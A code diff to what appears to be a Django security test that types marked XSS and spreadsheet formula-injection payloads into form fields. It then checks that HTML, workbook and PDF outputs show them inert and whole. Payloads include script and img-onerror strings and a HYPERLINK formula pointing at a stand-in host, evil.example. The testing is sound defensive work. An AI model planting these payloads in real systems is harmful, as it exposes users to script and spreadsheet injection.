@@ -29,9 +29,9 @@ from django.urls import reverse
 # text from the page's own and name the field a trace came from (`+1` is typed as `+7331001`).
 MARKER = "7331"
 MARKED = re.compile(r"7331\d{3}")
-TEMPLATES = (
-    "<script>alert({m})</script>",
-    '"><img src=x onerror=alert({m})>',
+SCRIPT = "<script>alert({m})</script>"
+IMG = '"><img src=x onerror=alert({m})>'
+FORMULAS = (
     '=HYPERLINK("http://evil.example/{m}","x")',
     "+{m}",
     "-{m}+2",
@@ -40,6 +40,10 @@ TEMPLATES = (
     "\t={m}+2",
     "\r={m}+3",
 )
+# A short field gets one payload; a long one a formula followed by markup, so that every
+# output that shows it is tried with both (a PDF as much as a workbook).
+TEMPLATES = (SCRIPT, IMG, *FORMULAS)
+COMBINED = tuple(formula + (SCRIPT, IMG)[turn % 2] for turn, formula in enumerate(FORMULAS))
 # Where a payload goes inside a structured value an entry gives (a line of a scale's values).
 TYPED = "{typed}"
 XHTML = "{http://www.w3.org/1999/xhtml}"
@@ -111,6 +115,10 @@ class Payloads:
 
     def next(self, entry: str, name: str, max_length: int | None) -> str | None:
         marker = f"{MARKER}{len(self.typed) + 1:03d}"
+        combined = COMBINED[len(self.typed) % len(COMBINED)].format(m=marker)
+        if max_length is None or len(combined) <= max_length:
+            self.typed[marker] = Typed(entry, name, combined)
+            return combined
         for turn in range(len(TEMPLATES)):
             payload = TEMPLATES[(len(self.typed) + turn) % len(TEMPLATES)].format(m=marker)
             if max_length is None or len(payload) <= max_length:
@@ -237,9 +245,10 @@ class Seen:
         pdftotext = shutil.which("pdftotext")
         assert pdftotext, "pdftotext (poppler-utils) is needed"
         done = subprocess.run([pdftotext, "-", "-"], input=content, capture_output=True, check=True)  # noqa: S603
-        text = " ".join(done.stdout.decode("utf-8").split())
+        # Lines wrap anywhere in a long payload (after «/», say): compare without whitespace.
+        text = "".join(done.stdout.decode("utf-8").split())
         for marker in set(MARKED.findall(text)):
-            payload = " ".join(self._payload(marker).split())
+            payload = "".join(self._payload(marker).split())
             assert payload in text, f"{where}: payload {payload!r} not shown whole in {_around(text, marker)!r}"
             self.shown.setdefault(marker, set()).add("pdf")
 
